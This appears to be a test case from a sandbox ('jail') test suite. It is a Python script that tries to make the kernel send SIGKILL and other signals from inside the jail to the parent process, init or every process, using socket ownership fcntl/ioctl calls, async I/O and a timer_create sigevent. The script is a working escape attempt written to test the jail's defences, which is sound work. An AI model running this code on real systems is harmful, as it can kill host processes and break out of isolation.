# attack: jail/io-signals-to-the-host
# oracle: crash
# imports: os, fcntl, socket, signal, ctypes
# tools:
# source: own
# note: signals that the kernel sends on behalf of a descriptor or a timer
from pinjra.jail.walls.libc import syscall, buffer

import fcntl, os, signal, socket
a, b = socket.socketpair()
for pid in (os.getppid(), 1, -1):
    for call in (lambda: fcntl.fcntl(a, 8, pid), lambda: fcntl.fcntl(a, 10, 9), lambda: fcntl.ioctl(a, 0x8901, pid.to_bytes(4, "little", signed=True)),
                 lambda: fcntl.fcntl(a, 15, b"\1\0\0\0" + pid.to_bytes(4, "little", signed=True)), lambda: fcntl.fcntl(a, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)):
        try:
            call()
        except (OSError, ValueError):
            pass
b.send(b"x")
event = buffer(bytes(8) + signal.SIGKILL.to_bytes(4, "little") + (4).to_bytes(4, "little") + os.getppid().to_bytes(4, "little") + bytes(44))
try:
    syscall("timer_create", 1, event, buffer(bytes(8)))
except OSError:
    pass
